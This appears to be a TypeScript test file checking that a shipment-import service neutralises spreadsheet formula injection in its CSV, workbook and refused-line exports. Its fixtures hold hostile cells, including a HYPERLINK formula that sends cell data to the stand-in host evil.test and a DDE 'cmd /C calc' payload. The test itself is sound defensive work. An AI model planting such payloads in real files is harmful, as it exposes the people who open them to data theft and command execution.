import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { preAlerts } from '#tools/import/pre-alerts.ts';
import { job as jobContract } from '#tools/import/job.ts';
import { all } from '#tools/shipment/all.ts';
import { updateShipmentInfo } from '#tools/shipment/update-shipment-info.ts';
import { runJob } from '#server/jobs/runner.ts';
import { preAlertImports } from '#server/pre-alert-import/run-import.ts';
import { engines } from '#tests/support/engines.ts';
import { openSite, type Site } from '#tests/support/site.ts';

let site: Site;
beforeAll(async () => {
  site = await openSite(engines[0]!);
}, 180_000);
afterAll(() => site.close());

const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
/** What a spreadsheet program would run, or take for a line or a cell of its own. */
const hostile = [
  '=HYPERLINK("http://evil.test/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  'line\nbreak',
  'a "quoted", comma',
];
/** These pass through JSON but not through a table as they are. */
const orders = ['\r=1+1', 'lone\rreturn', '\t=1+1'];
const quoted = (cells: string[]) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',');
const isFormula = (cell: unknown) =>
  typeof cell === 'string' && /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?[\d.]+$/.test(cell);

const lines = hostile.flatMap((text, index) => [
  ['HOSTILE-OK-' + index, 'BR', text, 'Socks', '12', '0.4', text],
  ['HOSTILE-NO-' + index, 'BR', text, 'Socks', '12', '400', text],
]);
const file = [['Tracking', 'Country', 'Consignee', 'Contents', 'Value', 'Weight kg', '=1+1 note'], ...lines]
  .map(quoted)
  .join('\r\n');

test('a merchant’s text is text in the files of an administrator, and in its refused lines', async () => {
  const merchant = site.users.merchant;
  const form = new FormData();
  form.set('userInfo', JSON.stringify(merchant));
  form.set('file', new File([file], '=cmd.csv'));
  const stored = await site.app.request('/files', { method: 'POST', body: form });
  const { file_id } = (await stored.json()) as { file_id: string };
  const { header } = await site.call(preAlerts, { file_id }, 'merchant');
  await runJob(site.data, preAlertImports(site.data), { id: header.import_job_id! });
  const done = await site.call(jobContract, { import_job_id: header.import_job_id! }, 'admin');
  expect(done.header).toMatchObject({ state: 'done', rows_accepted: hostile.length, rows_refused: hostile.length });
  for (const [index, order_label] of orders.entries()) {
    const asked = { external_tracking: `HOSTILE-OK-${index}`, order_label };
    expect((await site.send(updateShipmentInfo, asked, merchant)).status).toBe(200);
  }

  const list = (accept: string) => site.send(all, { trackingSearch: 'HOSTILE-OK' }, site.users.admin, { accept });
  const csv = parse(await (await list('text/csv')).text(), { bom: true, relax_column_count: false }) as string[][];
  const sheet = await readSheet(Buffer.from(await (await list(xlsx)).arrayBuffer()));
  const refused = await site.app.request(`/files/${done.header.refused_file_id}`, {
    headers: { 'x-user-code': site.users.admin.userCode, 'x-user-key': site.users.admin.userKey },
  });
  const mended = parse(await refused.text(), { bom: true, relax_column_count: false }) as string[][];
  for (const [rows, name] of [
    [csv, 'CSV'],
    [sheet, 'workbook'],
    [mended, 'refused lines'],
  ] as const) {
    expect(rows, name).toHaveLength(hostile.length + 1);
    expect((rows as unknown[][]).flat().filter(isFormula), name).toEqual([]);
    expect((rows as unknown[][]).flat(), name).toContain(`'${hostile[0]}`);
  }
});
